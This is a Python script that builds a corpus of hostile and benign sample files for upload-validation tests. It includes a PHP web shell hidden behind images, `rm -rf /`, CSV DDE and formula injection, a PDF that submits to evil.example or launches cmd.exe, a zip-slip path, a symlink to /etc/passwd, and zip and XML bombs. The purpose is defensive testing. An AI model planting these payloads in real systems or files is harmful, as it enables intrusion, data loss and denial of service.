"""Makes the files of HostileFileTests, good and bad: each function writes one, named as people would send it.

Usage: make_files.py FOLDER. Needs vips (libvips-tools), heif-enc (libheif-examples) and qpdf beside Python.
"""

from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from collections.abc import Callable

folder = sys.argv[1]
MAKERS: list[tuple[str, Callable[[], bytes]]] = []


def file(name: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def keep(maker: Callable[[], bytes]) -> Callable[[], bytes]:
        MAKERS.append((name, maker))
        return maker

    return keep


# Pictures


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 400, height: int = 300, rows: bytes | None = None, extra: bytes = b"") -> bytes:
    if rows is None:
        # Red above, blue below: a test sees which way is up.
        line = b"\0" + b"\xff\0\0" * width, b"\0" + b"\0\0\xff" * width
        rows = line[0] * (height // 2) + line[1] * (height - height // 2)
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + extra + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def converted(target: str, source: bytes = b"", *, program: str = "vips copy {0} {1}") -> bytes:
    from_path, to_path = os.path.join(folder, ".from.png"), os.path.join(folder, f".to.{target}")
    with open(from_path, "wb") as out:
        out.write(source or png())
    subprocess.run(program.format(from_path, to_path).split(), check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    with open(to_path, "rb") as made:
        data = made.read()
    os.remove(from_path)
    os.remove(to_path)
    return data


def jpeg(*segments: bytes) -> bytes:
    """With segments put behind its first two bytes."""
    plain = converted("jpg")
    return plain[:2] + b"".join(segments) + plain[2:]


def segment(marker: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(data) + 2) + data


def exif(orientation: int = 6) -> bytes:
    """As a phone writes it: which way is up, its maker, and where it was: 28.7 N."""
    place = struct.pack("<H", 2) + struct.pack("<HHI4s", 1, 2, 2, b"N\0\0\0") + struct.pack("<HHII", 2, 5, 3, 86) + b"\0\0\0\0"
    head = b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 3)
    head += struct.pack("<HHII", 0x10F, 2, 12, 50) + struct.pack("<HHIHH", 0x112, 3, 1, orientation, 0) + struct.pack("<HHII", 0x8825, 4, 1, 62)
    head += b"\0\0\0\0" + b"SECRETPHONE\0" + place
    return segment(0xE1, b"Exif\0\0" + head.ljust(86, b"\0") + struct.pack("<IIIIII", 28, 1, 42, 1, 0, 1))


file("photo.jpg")(jpeg)
file("photo.png")(png)
file("photo.webp")(lambda: converted("webp"))
file("photo.gif")(lambda: converted("gif"))
file("photo.tif")(lambda: converted("tif"))
file("photo.heic")(lambda: converted("heic", program="heif-enc {0} -o {1}"))
file("phone.jpg")(lambda: jpeg(exif()))
file("moving.jpg")(lambda: jpeg() + mp4())  # as phones write a moving picture
file("is-a-jpeg.png")(jpeg)
file("cut.jpg")(lambda: jpeg()[:1_500])
file("cut.png")(lambda: png(rows=os.urandom(301 * 300 * 4)[: 1_201 * 300])[:90_000])
file("cut.heic")(lambda: converted("heic", program="heif-enc {0} -o {1}")[:-200])
file("cut.webp")(lambda: converted("webp", png(rows=b"".join(b"\0" + os.urandom(1_200) for _ in range(300))))[:20_000])
file("only-a-head.png")(lambda: b"\x89PNG\r\n\x1a\n")
file("50000x50000.png")(lambda: png(50_000, 50_000, b"\0" * 100_000))
file("2000000x2000000.bmp")(lambda: bmp(2_000_000, 2_000_000))
file("zip-behind.jpg")(lambda: jpeg() + packed({"a.txt": b"hidden"}))
file("rar-behind.jpg")(lambda: jpeg() + b"Rar!\x1a\x07\x01\0" + b"x" * 500)
file("7z-behind.jpg")(lambda: jpeg() + b"7z\xbc\xaf\x27\x1c\0\4" + b"x" * 500)
file("html-in-comment.jpg")(lambda: jpeg(segment(0xFE, b"<HTML><body onload=alert(1)>")))
file("html-in-exif.jpg")(lambda: jpeg(segment(0xE1, b"Exif\0\0<script>alert(1)</script>")))
file("html-behind.png")(lambda: png() + b"<html><script>alert(1)</script>")
file("php-behind.png")(lambda: png() + b"<?php system($_GET['c']); ?>")
file("php-in-text.png")(lambda: png(extra=chunk(b"tEXt", b"Comment\0<?PHP system('id');")))
file("noise-behind.png")(lambda: png() + os.urandom(1_000))
file("pdf-in-comment.jpg")(lambda: jpeg(segment(0xFE, b"\n%PDF-1.4\n")))
file("svg-behind.webp")(lambda: converted("webp") + b'<svg onload="alert(1)"/>')


@file("script.gif")
def script_gif() -> bytes:
    """GIF89a/* … */=1;alert(1): a picture 10,799 wide to one program, a script to another."""
    whole = converted("gif")
    return b"GIF89a" + whole[6:] + b"*/=1;alert(1)//"


def bmp(width: int, height: int, data: bytes = b"") -> bytes:
    return b"BM" + struct.pack("<IHHI", 54 + len(data), 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, width, height, 1, 24, 0, 0, 0, 0, 0, 0) + data


file("screen.bmp")(lambda: bmp(4, 4, b"\x40" * 48))
file("cut.bmp")(lambda: bmp(400, 400, b"\x40" * 48))


# PDF


def pdf(catalog: bytes = b"", objects: tuple[bytes, ...] = (), pages: bytes = b"3 0 R") -> bytes:
    parts = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", b"<</Type/Pages/Kids[%b]/Count %d>>" % (pages, len(objects) + 1),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>", *objects,
    ]
    out, places = b"%PDF-1.7\n", []
    for number, part in enumerate(parts, 1):
        places.append(len(out))
        out += b"%d 0 obj" % number + part + b"endobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"xref\n0 %d\n0000000000 65535 f \n" % (len(parts) + 1) + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(parts) + 1, len(out))


def by_qpdf(source: bytes, *arguments: str) -> bytes:
    from_path, to_path = os.path.join(folder, ".from.pdf"), os.path.join(folder, ".to.pdf")
    with open(from_path, "wb") as out:
        out.write(source)
    subprocess.run(["qpdf", from_path, *arguments, to_path], check=True)
    with open(to_path, "rb") as made:
        data = made.read()
    os.remove(from_path)
    os.remove(to_path)
    return data


file("manual.pdf")(pdf)
file("print-only.pdf")(lambda: by_qpdf(pdf(), "--encrypt", "", "owner", "256", "--"))
file("under-password.pdf")(lambda: by_qpdf(pdf(), "--encrypt", "user", "owner", "256", "--"))
file("cut.pdf")(lambda: pdf()[:120])
file("script.pdf")(lambda: pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"))
file("script-spelled.pdf")(lambda: pdf(b"/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"))
file("launch-packed.pdf")(lambda: by_qpdf(pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"), "--object-streams=generate"))
file("sends.pdf")(lambda: pdf(b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"))
file("speaks-of-launch.pdf")(lambda: pdf(b"/Info(/Launch and /JavaScript)"))
file("behind-html.pdf")(lambda: b"<html>" + pdf())
file("behind-words.pdf")(lambda: b"some words before it\n" + pdf())
file("zip-behind.pdf")(lambda: pdf() + packed({"a.txt": b"hidden"}))
file("says-30000-pages.pdf")(lambda: pdf().replace(b"[3 0 R]/Count 1", b"[" + b"3 0 R " * 30_000 + b"]/Count 30000"))
file("5001-pages.pdf")(
    lambda: pdf(pages=b" ".join(b"%d 0 R" % number for number in range(3, 5_004)), objects=(b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",) * 5_000))


# Archives and Office


def packed(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def office(kind: str = "wordprocessingml.document", more: dict[str, bytes] | None = None) -> bytes:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.{kind}.main+xml"/></Types>'
    return packed({"[Content_Types].xml": types.encode(), "_rels/.rels": b"<Relationships/>", "word/document.xml": b"<w/>", **(more or {})})


def open_document(kind: str, more: dict[str, bytes] | None = None) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return packed({"mimetype": mimetype, "content.xml": b"<office/>", **(more or {})}, zipfile.ZIP_STORED)


def compound(*streams: str) -> bytes:
    """The beginning of an old Office file: one sector of its folder."""
    folder_sector = b""
    for name in streams:
        units = name.encode("utf-16-le") + b"\0\0"
        folder_sector += units.ljust(64, b"\0") + struct.pack("<H", len(units)) + b"\2\1" + b"\xff" * 12 + b"\0" * 48
    return (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHH", 0x3E, 3, 0xFFFE, 9)).ljust(512, b"\0") + folder_sector.ljust(
        4_096, b"\0")


file("report.docx")(office)
file("list.xlsx")(lambda: office("spreadsheetml.sheet"))
file("course.pptx")(lambda: office("presentationml.presentation"))
file("report.odt")(lambda: open_document("text"))
file("report.doc")(lambda: compound("Root Entry", "WordDocument"))
file("list.xls")(lambda: compound("Root Entry", "Workbook"))
file("macros.docm")(lambda: office("wordprocessingml.document", {"word/vbaProject.bin": b"\0"}))
file("macros-renamed.docx")(lambda: office(more={"word/vbaProject.bin": b"\0"}))
file("macros.ods")(lambda: open_document("spreadsheet", {"Basic/Standard/Module1.xml": b"<x/>"}))
file("macros.doc")(lambda: compound("Root Entry", "WordDocument", "Macros", "_VBA_PROJECT"))
file("under-password.docx")(lambda: compound("Root Entry", "EncryptedPackage", "EncryptionInfo"))
file("setup.msi")(lambda: compound("Root Entry", "Property"))
file("bomb.xlsx")(lambda: office("spreadsheetml.sheet", {"xl/sheet1.xml": b"\0" * 100_000_000}))
file("cut.docx")(lambda: office()[:-30])
file("logs.zip")(lambda: packed({"2026/11/app.log": "泵压低\n".encode() * 100, "screen.png": png()}))
file("bomb.zip")(lambda: packed({"zeros": b"\0" * 150_000_000}))
file("many.zip")(lambda: packed({str(number): b"" for number in range(10_001)}, zipfile.ZIP_STORED))
file("empty.zip")(lambda: packed({}))
file("leads-outside.zip")(lambda: packed({"../../etc/cron.d/x": b"x"}))
file("holds-program.zip")(lambda: packed({"readme.txt": b"x", "tool.dat": b"MZ\x90\0" + b"\0" * 60}))
file("holds-script.zip")(lambda: packed({"run.vbs": b"MsgBox 1"}))
file("holds-page.zip")(lambda: packed({"index.txt": b"<!DOCTYPE html><p>"}))
file("holds-zip.zip")(lambda: packed({"inner.zip": packed({"a": b"x"})}))
file("holds-document.zip")(lambda: packed({"report.docx": office()}))
file("holds-macros.zip")(lambda: packed({"report.docx": office(more={"word/vbaProject.bin": b"\0"})}))
file("app.jar")(lambda: packed({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"}))
file("logs.7z")(lambda: b"7z\xbc\xaf\x27\x1c\0\4" + b"\0" * 100)
file("logs.tar.gz")(lambda: b"\x1f\x8b\x08\0" + b"\0" * 100)


@file("chinese-names.zip")
def chinese_names() -> bytes:
    """Windows writes names in GBK and does not say so: 日志.txt."""
    return packed({"AAAA.txt": "x".encode()}, zipfile.ZIP_STORED).replace(b"AAAA", "日志".encode("gbk"))


@file("holds-link.zip")
def holds_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("link")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


@file("under-password.zip")
def under_password() -> bytes:
    data = bytearray(packed({"a": b"secret"}))
    data[6] |= 1
    data[data.index(b"PK\1\2") + 8] |= 1
    return bytes(data)


@file("says-5-bytes.zip")
def lying() -> bytes:
    size, said = (100_000_000).to_bytes(4, "little"), (5).to_bytes(4, "little")
    return packed({"zeros": b"\0" * 100_000_000}).replace(size, said)


# Text


file("notes.txt")(lambda: "泵压低，已更换。\n".encode())
file("windows.log")(lambda: "余干县人民医院 堵塞报警\r\n".encode("gb18030") * 20)
file("unicode.txt")(lambda: "\ufeff设备\n".encode("utf-16-le"))
file("machine.csv")(lambda: "序列号,数\nDR-1,-5\nDR-2,+86 13800000000\n".encode())
file("formula.csv")(lambda: b"name,x\nA,=HYPERLINK(\"http://evil.example\")\n")
file("dde.csv")(lambda: b"name\n+cmd|' /C calc'!A0\n")
file("run.bat.txt")(lambda: b"copy a b\r\n")
file("fix.bat")(lambda: b"copy a b\r\n")
file("settings.xml")(lambda: b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x 'ha'><!ENTITY y '&x;&x;'>]><a>&y;</a>")
file("bm.txt")(lambda: "BM 200 型：泵压低\n".encode())
file("headers.xml")(lambda: b"<?xml version='1.0'?><headers><header/></headers>")
file("nul.txt")(lambda: b"first\nsec\0ond\n")
file("nul-late.log")(lambda: b"line\n" * 2_000 + b"\0\n")
file("two-encodings.txt")(lambda: "鄱阳县\n".encode() + "余干县\n".encode("gb18030"))
file("broken-letter.txt")(lambda: b"good\n\xff\xff\xff bad\n")
file("noise.txt")(lambda: (bytes(range(128, 256)) + bytes(range(128))) * 20)
file("page.txt")(lambda: b"\xef\xbb\xbf  <!-- hello -->\n<HTML><script>alert(1)</script>")
file("page-utf16.txt")(lambda: "\ufeff<html><script>alert(1)</script>".encode("utf-16-le"))
file("picture.svg")(lambda: b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
file("letter.mht")(lambda: b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n")
file("photo.jpg.php")(lambda: b"<?php system($_GET['c']);")
file("shell.txt")(lambda: b"#!/bin/sh\nrm -rf /\n")
file("site.url")(lambda: b"[InternetShortcut]\r\nURL=file://evil.example/x\r\n")
file("letter.rtf")(lambda: b"{\\rtf1 {\\object\\objdata 0105}}")


# Programs, sound, video, and the rest


def box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


def mp4(brand: bytes = b"isom") -> bytes:
    return box(b"ftyp", brand + b"\0\0\2\0" + brand) + box(b"moov", box(b"mvhd", b"\0" * 100)) + box(b"mdat", b"\1" * 1_000)


def wav() -> bytes:
    return b"RIFF" + struct.pack("<I", 36 + 100) + b"WAVEfmt " + struct.pack("<IHHIIHHI", 16, 1, 1, 8_000, 8_000, 1, 8, 0x61746164) + b"\0" * 104


def windows_program() -> bytes:
    return b"MZ\x90\0" + b"\0" * 56 + struct.pack("<I", 64) + b"PE\0\0\x64\x86" + b"\0" * 300


file("noise.mp4")(mp4)
file("noise.mov")(lambda: mp4(b"qt  "))
file("noise.wav")(wav)
file("cut.mp4")(lambda: mp4()[:-300])
file("without-index.mp4")(lambda: box(b"ftyp", b"isom\0\0\2\0isom") + box(b"mdat", b"\1" * 1_000))
file("zip-behind.mp4")(lambda: mp4() + packed({"a": b"x"}))
file("test-image.dcm")(lambda: b"\0" * 128 + b"DICM" + b"\2\0\0\0UL\4\0\0\0\0\0" + b"\0" * 200)
file("program.dcm")(lambda: windows_program()[:128].ljust(128, b"\0") + b"DICM" + b"\0" * 200)
file("photo.exe")(jpeg)
file("program.jpg")(windows_program)
file("linux.pdf")(lambda: b"\x7fELF\2\1\1" + b"\0" * 100)
file("macos.png")(lambda: b"\xcf\xfa\xed\xfe\7\0\0\1" + b"\0" * 100)
file("shortcut.txt")(lambda: b"L\0\0\0\1\x14\2\0" + b"\0" * 100)
file("empty.jpg")(lambda: b"")
file("zeros.jpg")(lambda: b"\0" * 10_000)

for name, maker in MAKERS:
    with open(os.path.join(folder, name), "wb") as out:
        out.write(maker())
